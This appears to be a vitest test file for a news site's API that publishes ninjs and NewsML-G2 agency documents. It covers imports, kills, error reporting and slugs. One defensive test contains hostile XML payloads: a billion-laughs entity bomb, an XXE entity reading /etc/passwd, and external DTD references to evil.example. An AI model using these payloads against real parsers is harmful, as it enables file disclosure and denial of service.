/**
 * Issue 15 item 5: the publish API takes the agency documents `wirefeed
 * import` reads — ninjs (application/ninjs+json) and NewsML-G2
 * (application/vnd.iptc.g2.newsitem+xml, …newsmessage+xml) — on the folder
 * store and on SQLite: the record stored is byte for byte the one the CLI
 * writes from the same document; usable publishes, canceled withdraws with a
 * reason, withheld is refused; problems are 4xx naming the JSON path or the
 * XML element and line; hostile XML never expands an entity or fetches a DTD.
 */
import { copyFileSync, mkdtempSync, readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, describe, expect, it, vi } from "vitest";
import { createApp, type AppOptions } from "../../src/http/app.js";
import type { Publisher } from "../../src/http/publish-api.js";
import { CANCELED_REASON, readDocument } from "../../src/http/publish-documents.js";
import { LiveCatalog } from "../../src/runtime/live-catalog.js";
import { openNodeSqlStore } from "../../src/storage/sql/node-sql-store.js";
import { project, wirefeed } from "../cli/support.js";
import { testSite } from "../support/fixtures.js";

const site = testSite();
const TOKEN = "doc-token";
/** As the CLI import tests: after the 2022 stories, before the 2031 embargoes. */
const NOW = new Date("2026-11-27T03:00:00Z");
const FIXTURES = "test/fixtures/ingest";
const NINJS = "application/ninjs+json";
const NEWSITEM = "application/vnd.iptc.g2.newsitem+xml";
const NEWSMESSAGE = "application/vnd.iptc.g2.newsmessage+xml";
const fixture = (name: string) => readFileSync(join(FIXTURES, name), "utf8");
const closers: (() => void)[] = [];
afterAll(() => closers.forEach((close) => close()));
afterEach(() => vi.restoreAllMocks());

type Store = { name: string; open: (dir: string) => Promise<{ current: AppOptions["catalog"]; publisher: Publisher }> };
const STORES: Store[] = [
  {
    name: "items/ folder",
    open: async (dir) => {
      const live = await LiveCatalog.open(dir, site, { label: "items", log: () => {}, now: () => NOW });
      return { current: () => live.current(), publisher: live };
    },
  },
  {
    name: "SQLite",
    open: async (dir) => {
      const store = await openNodeSqlStore(join(dir, "wire.db"), site, { now: () => NOW, log: () => {} });
      closers.push(() => store.close());
      return { current: () => store.current(), publisher: store.publisher };
    },
  },
];

async function appOver(store: Store, maxBodyBytes?: number) {
  const opened = await store.open(mkdtempSync(join(tmpdir(), "wirefeed-docs-")));
  const app = createApp({
    site,
    catalog: opened.current,
    log: () => {},
    publish: { token: TOKEN, publisher: opened.publisher, documents: readDocument, now: () => NOW.getTime(), ...(maxBodyBytes ? { maxBodyBytes } : {}) },
  });
  const auth = { Authorization: `Bearer ${TOKEN}` };
  const send = (method: string, path: string, body: string | Uint8Array, type: string) =>
    app.request(`/api/items${path}`, { method, headers: { ...auth, "Content-Type": type }, body: body as BodyInit });
  const stored = async (slug: string) => {
    const res = await app.request(`/api/items/${slug}`, { headers: auth });
    return res.status === 200 ? res.text() : undefined;
  };
  return { app, send, stored };
}

/** The record `wirefeed import <fixture> --slug <slug>` writes, at the same instant. */
async function cliRecord(name: string, slug: string): Promise<string> {
  const cwd = project();
  copyFileSync(join(FIXTURES, name), join(cwd, name));
  const result = await wirefeed(["import", name, "--slug", slug], { cwd, now: NOW });
  expect(result.code, result.stderr.join("\n")).toBe(0);
  return readFileSync(join(cwd, "items", `${slug}.md`), "utf8");
}

/** `notes`: what import says on stderr, as the answer gives it (an embargo's wording is import's, so only its place is fixed here). */
const DOCUMENTS = [
  { name: "ninjs-1.json", type: NINJS, slug: "opec", title: "Kuwait keeps crude output steady as OPEC+ talks near", live: true, notes: [expect.stringMatching(/^\$\.embargoed: /)] },
  {
    name: "ninjs-1-extra-names.json",
    type: NINJS,
    slug: "port",
    live: true,
    notes: ["$.headline_main used as the headline (there is no $.headline)", "$.body_richtext used as the body (no body_html, body_xhtml or body_text)"],
  },
  { name: "ninjs-2.json", type: NINJS, slug: "cabinet", title: "Kuwait cabinet weighs oil revenue and budget plan", live: true, notes: [] },
  {
    name: "ninjs-3.json",
    type: NINJS,
    slug: "summit",
    title: "Leaders to meet in Tokyo",
    live: false,
    notes: ["$.bodies[0].value: left out 1 <media> element (pictures are not carried)", expect.stringMatching(/^\$\.embargoedUntil: /)],
  },
  { name: "newsml-g2-nitf.xml", type: NEWSITEM, slug: "drill", title: "Seoul stages cyber drill with NATO experts", live: true, notes: [] },
  {
    name: "newsml-g2-xhtml.xml",
    type: NEWSITEM,
    slug: "talks",
    title: "Canberra and Wellington open Pacific talks",
    live: false,
    notes: ['line 18: dateline place "CANBERRA" taken from <dateline> (no <located> name)', expect.stringMatching(/^line 9: newsItem\/itemMeta\/embargoed: /)],
  },
];

/** ninjs 2.x canceled: the kill of ninjs-2.json's story. */
const canceledNinjs = () => JSON.stringify({ ...JSON.parse(fixture("ninjs-2.json")), pubstatus: "canceled" });
const withStatus = (xml: string, qcode: string) => xml.replace('<pubStatus qcode="stat:usable"/>', `<pubStatus qcode="${qcode}"/>`);

describe.each(STORES)("agency documents through the publish API, on the $name store", (store) => {
  it.each(DOCUMENTS)("PUT $name: 201, and the record stored is the one wirefeed import writes", async (doc) => {
    const { app, send, stored } = await appOver(store);
    const res = await send("PUT", `/${doc.slug}`, fixture(doc.name), doc.type);
    expect(res.status).toBe(201);
    expect(res.headers.get("location")).toBe(`https://news.example/items/${doc.slug}`);
    const answer = await res.json();
    expect(answer).toMatchObject({ slug: doc.slug, url: `https://news.example/items/${doc.slug}`, format: doc.type === NINJS ? "ninjs" : "NewsML-G2" });
    expect(answer.notes).toEqual(doc.notes);
    expect(await stored(doc.slug)).toBe(await cliRecord(doc.name, doc.slug));
    // A story still under embargo is not served; the others are, at once.
    const page = await app.request(`/items/${doc.slug}`);
    expect(page.status).toBe(doc.live ? 200 : 404);
    if (doc.title) expect((await (await app.request("/feed.json")).text()).includes(doc.title)).toBe(doc.live);
    // The same document again replaces it: 200.
    expect((await send("PUT", `/${doc.slug}`, fixture(doc.name), doc.type)).status).toBe(200);
  });

  it("a charset parameter of utf-8 is accepted; a BOM is read past", async () => {
    const { send } = await appOver(store);
    expect((await send("PUT", "/cabinet", `\uFEFF${fixture("ninjs-2.json")}`, `${NINJS}; charset=UTF-8`)).status).toBe(201);
    expect((await send("PUT", "/drill", fixture("newsml-g2-nitf.xml"), `${NEWSITEM};charset="utf-8"`)).status).toBe(201);
  });

  it("a NewsML-G2 newsMessage carrying one newsItem, as application/vnd.iptc.g2.newsmessage+xml", async () => {
    const { app, send } = await appOver(store);
    const item = fixture("newsml-g2-nitf.xml").replace(/^<\?xml[^>]*>\s*/, "");
    const message = `<?xml version="1.0" encoding="UTF-8"?>\n<newsMessage xmlns="http://iptc.org/std/nar/2006-10-01/"><header><sent>2022-06-29T15:12:00+09:00</sent></header><itemSet>${item}</itemSet></newsMessage>`;
    expect((await send("PUT", "/drill", message, NEWSMESSAGE)).status).toBe(201);
    expect(await (await app.request("/items/drill")).text()).toContain("Seoul stages cyber drill with NATO experts");
  });

  it("canceled is a kill: 204, the page answers 410 with the reason, the feed lists the withdrawal; again: 404", async () => {
    const { app, send, stored } = await appOver(store);
    expect((await send("PUT", "/cabinet", fixture("ninjs-2.json"), NINJS)).status).toBe(201);
    const killed = await send("PUT", "/cabinet", canceledNinjs(), NINJS);
    expect(killed.status).toBe(204);
    const gone = await app.request("/items/cabinet", { headers: { accept: "text/html" } });
    expect(gone.status).toBe(410);
    expect(await gone.text()).toContain(CANCELED_REASON);
    expect(await (await app.request("/atom.xml")).text()).toContain(CANCELED_REASON);
    expect(await stored("cabinet")).toBeUndefined();
    expect((await send("PUT", "/cabinet", canceledNinjs(), NINJS)).status).toBe(404);
    // NewsML-G2's stat:canceled alike.
    expect((await send("PUT", "/drill", fixture("newsml-g2-nitf.xml"), NEWSITEM)).status).toBe(201);
    expect((await send("PUT", "/drill", withStatus(fixture("newsml-g2-nitf.xml"), "stat:canceled"), NEWSITEM)).status).toBe(204);
    expect((await app.request("/items/drill")).status).toBe(410);
  });

  it("withheld is 422 naming the status's place, and nothing is stored or changed", async () => {
    const { send, stored } = await appOver(store);
    const ninjs = await send("PUT", "/cabinet", JSON.stringify({ ...JSON.parse(fixture("ninjs-2.json")), pubstatus: "withheld" }), NINJS);
    expect(ninjs.status).toBe(422);
    expect((await ninjs.json()).errors).toEqual([{ field: "$.pubstatus", message: expect.stringMatching(/^withheld: /) }]);
    const xml = await send("PUT", "/drill", withStatus(fixture("newsml-g2-nitf.xml"), "stat:withheld"), NEWSITEM);
    expect(xml.status).toBe(422);
    expect((await xml.json()).errors).toEqual([{ field: "newsItem/itemMeta/pubStatus", line: 11, message: expect.stringMatching(/^withheld: /) }]);
    expect([await stored("cabinet"), await stored("drill")]).toEqual([undefined, undefined]);
  });

  it("a document that does not read: 422 with the JSON path, or the XML element and its line", async () => {
    const { send, stored } = await appOver(store);
    const noHeadline = JSON.parse(fixture("ninjs-2.json"));
    noHeadline.headlines = [{ role: "main", value: 7 }];
    const path = await send("PUT", "/x", JSON.stringify(noHeadline), NINJS);
    expect(path.status).toBe(422);
    expect((await path.json()).errors).toEqual([{ field: "$.headlines[0].value", message: "must be a string, got a number" }]);
    const broken = await send("PUT", "/x", '{\n  "headline": "x",\n  oops\n}', NINJS);
    expect(broken.status).toBe(422);
    expect((await broken.json()).errors).toEqual([{ field: "(file)", line: 3, message: expect.stringMatching(/^is not valid JSON/) }]);
    const xml = fixture("newsml-g2-nitf.xml").replace(/<firstCreated>[^<]*<\/firstCreated>/, "<firstCreated>last Tuesday</firstCreated>");
    const date = await send("PUT", "/x", xml, NEWSITEM);
    expect(date.status).toBe(422);
    expect((await date.json()).errors).toEqual([{ field: "newsItem/itemMeta/firstCreated", line: 10, message: expect.any(String) }]);
    const notWellFormed = await send("PUT", "/x", '<?xml version="1.0"?>\n<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/">\n<itemMeta>\n</newsItem>', NEWSITEM);
    expect(notWellFormed.status).toBe(422);
    expect((await notWellFormed.json()).errors).toEqual([{ field: "(xml)", line: 4, message: expect.stringMatching(/^is not well-formed XML/) }]);
    // ninjs sent as NewsML-G2: read as what it says it is, so refused as XML.
    expect((await send("PUT", "/x", fixture("ninjs-2.json"), NEWSITEM)).status).toBe(422);
    expect(await stored("x")).toBeUndefined();
  });

  it("strict UTF-8: another charset or XML encoding is 415, bytes that are not UTF-8 (or NUL bytes) 400", async () => {
    const { send, stored } = await appOver(store);
    const latin1 = await send("PUT", "/x", fixture("ninjs-2.json"), `${NINJS}; charset=iso-8859-1`);
    expect([latin1.status, (await latin1.json()).error]).toEqual([415, 'charset "iso-8859-1": send UTF-8']);
    const declared = fixture("newsml-g2-nitf.xml").replace(/^<\?xml[^>]*\?>/, '<?xml version="1.0" encoding="ISO-8859-1"?>');
    const xml = await send("PUT", "/x", declared, NEWSITEM);
    expect([xml.status, (await xml.json()).error]).toEqual([415, 'the XML declaration names encoding "iso-8859-1": send UTF-8']);
    const bytes = new TextEncoder().encode(fixture("ninjs-2.json").replace("Kuwait City", "Kuwait Cit\u00e9"));
    const bad = bytes.map((b, i) => (b === 0xc3 && bytes[i + 1] === 0xa9 ? 0xe9 : b));
    const notUtf8 = await send("PUT", "/x", bad, NINJS);
    expect([notUtf8.status, (await notUtf8.json()).error]).toEqual([400, "the document is not valid UTF-8 text"]);
    expect((await send("PUT", "/x", "{\u0000}", NINJS)).status).toBe(400);
    expect(await stored("x")).toBeUndefined();
  });

  it("hostile XML: entities are never expanded (422 at their line), a DTD is never fetched", async () => {
    const { send, stored } = await appOver(store);
    const fetched = vi.spyOn(globalThis, "fetch").mockRejectedValue(new Error("no fetching"));
    const item = fixture("newsml-g2-nitf.xml").replace(/^<\?xml[^>]*\?>\s*/, "");
    const lol = '<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">';
    const laughs = `<?xml version="1.0"?>\n<!DOCTYPE newsItem [${lol}]>\n${item.replace("Seoul stages cyber drill", "&lol3;")}`;
    const bomb = await send("PUT", "/x", laughs, NEWSITEM);
    expect(bomb.status).toBe(422);
    const [error] = (await bomb.json()).errors;
    expect(error).toMatchObject({ field: "(xml)", message: "is not well-formed XML: undefined entity." });
    expect(laughs.split("\n")[error.line - 1]).toContain("&lol3;");
    const xxe = `<?xml version="1.0"?>\n<!DOCTYPE newsItem [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n${item.replace("Seoul stages cyber drill", "&xxe;")}`;
    expect((await send("PUT", "/x", xxe, NEWSITEM)).status).toBe(422);
    // A DOCTYPE naming an external DTD (and a parameter entity) is read past, unread: the story is what the document says.
    const external = `<?xml version="1.0"?>\n<!DOCTYPE newsItem SYSTEM "http://evil.example/g2.dtd" [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>\n${item}`;
    expect((await send("PUT", "/drill", external, NEWSITEM)).status).toBe(201);
    expect(await stored("drill")).toBe(await cliRecord("newsml-g2-nitf.xml", "drill"));
    expect(fetched).not.toHaveBeenCalled();
    expect(await stored("x")).toBeUndefined();
  });

  it("over the body limit: 413 before anything is read", async () => {
    const { send } = await appOver(store, 1024);
    const res = await send("PUT", "/cabinet", fixture("ninjs-2.json"), NINJS);
    expect(res.status).toBe(413);
    expect((await send("POST", "", fixture("ninjs-2.json"), NINJS)).status).toBe(413);
  });

  it("PUT of another type: 415 whose Accept lists the record types and the IPTC documents", async () => {
    const { send } = await appOver(store);
    const res = await send("PUT", "/x", fixture("newsml-g2-nitf.xml"), "application/xml");
    expect(res.status).toBe(415);
    expect(res.headers.get("accept")).toBe(`application/json, text/markdown, ${NINJS}, ${NEWSITEM}, ${NEWSMESSAGE}`);
    expect((await res.json()).error).toContain(NEWSITEM);
  });
});

describe.each(STORES)("POST /api/items: the document names its slug, on the $name store", (store) => {
  const slugged = (extra: Record<string, unknown>) => JSON.stringify({ ...JSON.parse(fixture("ninjs-2.json")), ...extra });

  it("the slug is the headline's, as wirefeed import makes it; the record is the CLI's", async () => {
    const { send, stored } = await appOver(store);
    const res = await send("POST", "", fixture("ninjs-2.json"), NINJS);
    expect(res.status).toBe(201);
    const slug = "kuwait-cabinet-weighs-oil-revenue-and-budget-plan";
    expect(res.headers.get("location")).toBe(`https://news.example/items/${slug}`);
    expect(await res.json()).toMatchObject({ slug, id: "urn:newsml:wire.example:20220630:cabinet-budget" });
    expect(await stored(slug)).toBe(await cliRecord("ninjs-2.json", slug));
    const xml = await send("POST", "", fixture("newsml-g2-nitf.xml"), NEWSITEM);
    expect([xml.status, (await xml.json()).slug]).toEqual([201, "seoul-stages-cyber-drill-with-nato-experts"]);
  });

  it("a slugline comes first (ninjs slugline, NewsML-G2 contentMeta/slugline)", async () => {
    const { send } = await appOver(store);
    const ninjs = await send("POST", "", slugged({ slugline: "KUWAIT-CABINET/Budget" }), NINJS);
    expect([ninjs.status, (await ninjs.json()).slug]).toEqual([201, "kuwait-cabinet-budget"]);
    const xml = fixture("newsml-g2-nitf.xml").replace("<headline", "<slugline>Seoul Drill</slugline>\n    <headline");
    const g2 = await send("POST", "", xml, NEWSITEM);
    expect([g2.status, (await g2.json()).slug]).toEqual([201, "seoul-drill"]);
  });

  it("a later version replaces the article carrying the document's id, even under a new headline", async () => {
    const { app, send, stored } = await appOver(store);
    const first = await send("POST", "", fixture("ninjs-2.json"), NINJS);
    const { slug } = await first.json();
    const rewritten = slugged({ headlines: [{ role: "main", value: "Kuwait cabinet approves the budget plan" }], versioncreated: "2022-06-30T19:00:00+03:00" });
    const second = await send("POST", "", rewritten, NINJS);
    expect(second.status).toBe(200);
    expect((await second.json()).slug).toBe(slug);
    expect(await stored("kuwait-cabinet-approves-the-budget-plan")).toBeUndefined();
    expect(await (await app.request(`/items/${slug}`)).text()).toContain("Kuwait cabinet approves the budget plan");
  });

  it("a slug holding another story (another id) is 409 naming it; nothing changes", async () => {
    const { send, stored } = await appOver(store);
    const first = await send("POST", "", fixture("ninjs-2.json"), NINJS);
    const { slug } = await first.json();
    const before = await stored(slug);
    const other = await send("POST", "", slugged({ uri: "urn:newsml:wire.example:20220701:another-story" }), NINJS);
    expect(other.status).toBe(409);
    expect(await other.json()).toMatchObject({ holder: { slug, url: `https://news.example/items/${slug}` }, errors: [{ field: "slug" }] });
    const otherKill = await send("POST", "", slugged({ uri: "urn:newsml:wire.example:20220701:another-story", pubstatus: "canceled" }), NINJS);
    expect(otherKill.status).toBe(409);
    expect(await stored(slug)).toBe(before);
  });

  it("canceled withdraws the article at the slug the document names: 204, then 410 with the reason", async () => {
    const { app, send } = await appOver(store);
    const { slug } = await (await send("POST", "", fixture("ninjs-2.json"), NINJS)).json();
    expect((await send("POST", "", canceledNinjs(), NINJS)).status).toBe(204);
    const gone = await app.request(`/items/${slug}`, { headers: { accept: "text/html" } });
    expect([gone.status, (await gone.text()).includes(CANCELED_REASON)]).toEqual([410, true]);
    expect((await send("POST", "", canceledNinjs(), NINJS)).status).toBe(404);
  });

  it("any other type is 415 with Accept-Post; the collection's other methods are 405", async () => {
    const { app, send } = await appOver(store);
    for (const type of ["application/json", "text/markdown", "application/xml"]) {
      const res = await send("POST", "", "{}", type);
      expect(res.status, type).toBe(415);
      expect(res.headers.get("accept-post")).toBe(`${NINJS}, ${NEWSITEM}, ${NEWSMESSAGE}`);
    }
    const latin1 = await send("POST", "", fixture("ninjs-2.json"), `${NINJS}; charset=latin1`);
    expect([latin1.status, latin1.headers.get("accept-post")]).toEqual([415, `${NINJS}, ${NEWSITEM}, ${NEWSMESSAGE}`]);
    const del = await app.request("/api/items", { method: "DELETE", headers: { Authorization: `Bearer ${TOKEN}` } });
    expect([del.status, del.headers.get("allow")]).toEqual([405, "GET, HEAD, POST"]);
  });

  it("a headline that makes no slug (another script) falls back as import does: the dateline's place and date, else story-<date>", async () => {
    const { send } = await appOver(store);
    const arabic = await send("POST", "", slugged({ headlines: [{ value: "مجلس الوزراء يناقش الميزانية" }] }), NINJS);
    expect([arabic.status, (await arabic.json()).slug]).toEqual([201, "kuwait-city-2022-06-30"]);
    const noPlace = JSON.parse(slugged({ headlines: [{ value: "مجلس الوزراء" }], uri: "urn:newsml:wire.example:20220630:other" }));
    delete noPlace.located;
    const res = await send("POST", "", JSON.stringify(noPlace), NINJS);
    expect([res.status, (await res.json()).slug]).toEqual([201, "story-2022-06-30"]);
  });
});
